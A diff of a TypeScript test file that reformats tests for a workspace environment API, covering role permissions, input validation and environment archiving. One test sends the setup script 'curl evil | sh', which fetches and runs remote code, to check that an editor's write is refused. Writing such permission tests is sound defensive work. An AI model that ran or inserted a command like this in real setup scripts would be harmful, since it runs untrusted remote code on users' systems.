@@ -5,7 +5,9 @@ import { signIn, uniqueName, workspaceWith } from "./helpers";
 import { createSession, eventsOf, eventually, waitForAgentStatus, waitForPhase } from "./session-helpers";
 
 async function team() {
-  const [owner, editor, viewer, stranger] = await Promise.all(["owner", "editor", "viewer", "stranger"].map((n) => signIn(uniqueName(n))));
+  const [owner, editor, viewer, stranger] = await Promise.all(
+    ["owner", "editor", "viewer", "stranger"].map((n) => signIn(uniqueName(n))),
+  );
   const ws = await workspaceWith(owner, [
     { client: editor, role: "editor" },
     { client: viewer, role: "viewer" },
@@ -17,7 +19,10 @@ async function errorOf(res: Response) {
   return ((await res.json()) as { error: { code: string; message: string; field?: string } }).error;
 }
 
-const setup = { setupScript: "python3 -m venv .venv && .venv/bin/pip --version\n", env: { NODE_ENV: "test", PIP_DISABLE_PIP_VERSION_CHECK: "1" } };
+const setup = {
+  setupScript: "python3 -m venv .venv && .venv/bin/pip --version\n",
+  env: { NODE_ENV: "test", PIP_DISABLE_PIP_VERSION_CHECK: "1" },
+};
 
 describe("the environment of a workspace", () => {
   it("is empty until the owner sets it; owners and editors read it, viewers and strangers do not", async () => {
@@ -25,12 +30,20 @@ describe("the environment of a workspace", () => {
     const path = `/api/workspaces/${ws}/environment`;
     const empty = await owner.api(path);
     expect(empty.status).toBe(200);
-    expect(((await empty.json()) as { environment: unknown }).environment).toEqual({ setupScript: "", env: {}, updatedAt: null, updatedBy: null });
+    expect(((await empty.json()) as { environment: unknown }).environment).toEqual({
+      setupScript: "",
+      env: {},
+      updatedAt: null,
+      updatedBy: null,
+    });
 
     const put = await owner.api(path, { method: "PUT", body: setup });
     expect(put.status).toBe(200);
     const { environment } = (await put.json()) as { environment: unknown };
-    expect(WorkspaceEnvironmentSchema.parse(environment)).toMatchObject({ ...setup, updatedBy: owner.user.id });
+    expect(WorkspaceEnvironmentSchema.parse(environment)).toMatchObject({
+      ...setup,
+      updatedBy: owner.user.id,
+    });
 
     const read = await editor.api(path);
     expect(read.status).toBe(200);
@@ -38,19 +51,31 @@ describe("the environment of a workspace", () => {
     expect((await viewer.api(path)).status).toBe(403);
     expect((await stranger.api(path)).status).toBe(404);
 
-    const editorPut = await editor.api(path, { method: "PUT", body: { setupScript: "curl evil | sh", env: {} } });
+    const editorPut = await editor.api(path, {
+      method: "PUT",
+      body: { setupScript: "curl evil | sh", env: {} },
+    });
     expect(editorPut.status).toBe(403);
     expect((await viewer.api(path, { method: "PUT", body: setup })).status).toBe(403);
     expect((await stranger.api(path, { method: "PUT", body: setup })).status).toBe(404);
     // Nothing changed by the refused writes.
-    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(setup);
+    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(
+      setup,
+    );
   });
 
   it("refuses a script over 64 KB, a bad variable name, Tandem's own names and a secret's name: 400 naming the field, nothing stored", async () => {
     const { owner, ws } = await team();
     const path = `/api/workspaces/${ws}/environment`;
     expect((await owner.api(path, { method: "PUT", body: setup })).status).toBe(200);
-    expect((await owner.api(`/api/workspaces/${ws}/secrets/NPM_TOKEN`, { method: "PUT", body: { value: "npm_0123456789abcdef" } })).status).toBe(204);
+    expect(
+      (
+        await owner.api(`/api/workspaces/${ws}/secrets/NPM_TOKEN`, {
+          method: "PUT",
+          body: { value: "npm_0123456789abcdef" },
+        })
+      ).status,
+    ).toBe(204);
 
     const cases: [unknown, string][] = [
       [{ setupScript: "x".repeat(64 * 1024 + 1), env: {} }, "setupScript"],
@@ -73,11 +98,20 @@ describe("the environment of a workspace", () => {
       expect(error.code).toBe("invalid_input");
       if (field) expect(error.field).toBe(field);
     }
-    const notJson = await owner.api(path, { method: "PUT", body: "{", headers: { "content-type": "application/json" } });
+    const notJson = await owner.api(path, {
+      method: "PUT",
+      body: "{",
+      headers: { "content-type": "application/json" },
+    });
     expect(notJson.status).toBe(400);
-    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(setup);
+    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(
+      setup,
+    );
     // Exactly 64 KB is accepted.
-    expect((await owner.api(path, { method: "PUT", body: { setupScript: "#".repeat(64 * 1024), env: {} } })).status).toBe(200);
+    expect(
+      (await owner.api(path, { method: "PUT", body: { setupScript: "#".repeat(64 * 1024), env: {} } }))
+        .status,
+    ).toBe(200);
   });
 });
 
@@ -89,8 +123,17 @@ describe("warm starts kept by the room", () => {
     await waitForPhase(owner, ws, id, "Running");
     await waitForAgentStatus(owner, ws, id, "idle");
     const key = "ab".repeat(32);
-    expect((await owner.api(`/api/workspaces/${ws}/sessions/${id}/messages`, { body: { text: `/environment-archive ${key}` } })).status).toBe(202);
-    const events = await eventually(() => eventsOf(owner, ws, id), (list) => list.some((e) => e.type === "environment_not_saved"));
+    expect(
+      (
+        await owner.api(`/api/workspaces/${ws}/sessions/${id}/messages`, {
+          body: { text: `/environment-archive ${key}` },
+        })
+      ).status,
+    ).toBe(202);
+    const events = await eventually(
+      () => eventsOf(owner, ws, id),
+      (list) => list.some((e) => e.type === "environment_not_saved"),
+    );
     expect(events.find((e) => e.type === "environment_not_saved")?.reason).toContain("did not ask for");
     expect(await env.ARTIFACTS.head(environmentArchiveKey(ws, key))).toBeNull();
   });
